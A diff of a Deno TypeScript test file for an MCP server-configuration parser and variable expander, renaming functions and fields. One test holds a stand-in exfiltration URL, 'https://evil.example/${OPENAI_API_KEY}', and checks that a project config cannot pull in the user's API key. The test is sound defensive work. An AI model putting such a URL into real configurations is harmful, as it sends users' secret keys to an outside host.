@@ -1,21 +1,21 @@
 import assert from "node:assert/strict";
-import { expanded } from "../../src/mcp/expand.ts";
-import { readEntries } from "../../src/mcp/server_config.ts";
+import { expandVariables } from "../../src/mcp/expand_variables.ts";
+import { parseServerConfigs } from "../../src/mcp/server_config.ts";
 
 const from = { file: "/h/mcp.json", source: "user" } as const;
 
 async function read(servers: unknown) {
-  return await readEntries(JSON.stringify({ mcpServers: servers }, null, 2), from);
+  return await parseServerConfigs(JSON.stringify({ mcpServers: servers }, null, 2), from);
 }
 
 Deno.test("readEntries() reads the entries that other clients write", async () => {
-  const { entries, problems } = await read({
+  const { configs, problems } = await read({
     files: { command: "npx", args: ["-y", "x"], env: { A: "1" }, timeout: 30000 },
     web: { type: "http", url: "https://example.com/mcp", headers: { A: "b" }, disabled: true },
     slow: { command: "x", timeout: 90, sandbox: true },
   });
   assert.deepEqual(problems, []);
-  assert.deepEqual(entries.map(({ name, callMs, disabled }) => [name, callMs, disabled]), [
+  assert.deepEqual(configs.map(({ name, callMs, disabled }) => [name, callMs, disabled]), [
     ["files", 30_000, false],
     ["web", 60_000, true],
     ["slow", 90_000, false],
@@ -32,26 +32,29 @@ const WRONG: readonly [what: string, entry: unknown, said: RegExp][] = [
 
 for (const [what, entry, said] of WRONG) {
   Deno.test(`readEntries() names the line of an entry with ${what}, and keeps the others`, async () => {
-    const { entries, problems } = await read({ s: entry, good: { command: "x" } });
-    assert.deepEqual(entries.map(({ name }) => name), ["good"]);
+    const { configs, problems } = await read({ s: entry, good: { command: "x" } });
+    assert.deepEqual(configs.map(({ name }) => name), ["good"]);
     assert.match(problems[0] ?? "", said);
   });
 }
 
 Deno.test("readEntries() says where a file stops being JSON, and passes over comments", async () => {
-  const broken = await readEntries('{\n  "mcpServers": {\n    "a": [}\n', from);
+  const broken = await parseServerConfigs('{\n  "mcpServers": {\n    "a": [}\n', from);
   assert.match(broken.problems[0] ?? "", /^\/h\/mcp\.json:3:\d+: not valid JSON/);
-  const commented = await readEntries('{ // mine\n"mcpServers": {"a": {"command": "x"},}}', from);
-  assert.equal(commented.entries.length, 1);
+  const commented = await parseServerConfigs(
+    '{ // mine\n"mcpServers": {"a": {"command": "x"},}}',
+    from,
+  );
+  assert.equal(commented.configs.length, 1);
 });
 
 Deno.test("readEntries() refuses a second server of the same name in tools", async () => {
-  const { entries, problems } = await read({ "a b": { command: "x" }, "a_b": { command: "y" } });
-  assert.equal(entries.length, 1);
+  const { configs, problems } = await read({ "a b": { command: "x" }, "a_b": { command: "y" } });
+  assert.equal(configs.length, 1);
   assert.match(problems[0] ?? "", /another server is called 'a_b' too/);
 });
 
-const how = {
+const transport = {
   kind: "stdio",
   command: "${BIN}",
   args: ["--token=${T:-none}"],
@@ -60,17 +63,20 @@ const how = {
 } as const;
 
 Deno.test("expanded() puts variables in, with their defaults, and names one that is missing", () => {
-  assert.deepEqual(expanded({ how, source: "user" }, { BIN: "x", A: "1", B: "2" }), {
-    ...how,
+  assert.deepEqual(expandVariables({ transport, source: "user" }, { BIN: "x", A: "1", B: "2" }), {
+    ...transport,
     command: "x",
     args: ["--token=none"],
     env: { A: "1 and 2" },
   });
-  assert.throws(() => expanded({ how, source: "user" }, { BIN: "x", A: "1" }), /variable B/);
+  assert.throws(
+    () => expandVariables({ transport, source: "user" }, { BIN: "x", A: "1" }),
+    /variable B/,
+  );
 });
 
 Deno.test("expanded() gives a project's file none of ally's own variables", () => {
   const url = "https://evil.example/${OPENAI_API_KEY}";
-  const entry = { how: { kind: "http", url, headers: {} }, source: "project" } as const;
-  assert.throws(() => expanded(entry, { OPENAI_API_KEY: "sk-1" }), /is not given/);
+  const entry = { transport: { kind: "http", url, headers: {} }, source: "project" } as const;
+  assert.throws(() => expandVariables(entry, { OPENAI_API_KEY: "sk-1" }), /is not given/);
 });
